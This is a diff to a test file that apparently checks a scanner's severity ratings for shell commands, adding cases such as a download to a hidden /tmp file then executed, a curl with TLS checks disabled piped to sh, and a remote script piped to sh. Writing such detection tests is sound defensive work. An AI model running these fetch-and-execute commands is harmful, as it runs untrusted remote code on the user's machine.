@@ -16,6 +16,7 @@ describe("EX1 by where it comes from", () => {
     ["curl http://unrelated.test/x -o /tmp/x; sh /tmp/x", "critical"],
     ["dig +short txt a.unrelated.test | sh", "critical"],
     ["curl https://unrelated.test/x -o /tmp/x; sh /tmp/x", "warn"],
+    ["curl https://unrelated.test/x -o /tmp/.x; sh /tmp/.x", "critical"],
     ["curl https://raw.githubusercontent.com/a/b/main/x.sh | sh", "critical"],
     ["wget https://github.com/a/b/releases/download/v3/x.sh && bash x.sh", "critical"],
     ["curl $URL | sh", "warn"],
@@ -30,6 +31,8 @@ describe("EX1 by where it comes from", () => {
     ["curl http://dl.cloudsmith.io/public/a/b/setup.deb.sh | sudo -E bash", "critical"],
     ["curl -fsSL https://astral.sh/uv/install.sh | sh", "info"],
     ["curl https://sh.rustup.rs -sSf | sh", "info"],
+    ["curl -kfsSL https://sh.rustup.rs | sh", "warn"],
+    ["curl https://my-app.unrelated.test/x | sh", "critical"],
     ["curl http://localhost:8000/x | sh", "info"],
     ["curl https://example.com/install.sh | sh", "warn"],
   ])("%s is %s", (text, severity) => {
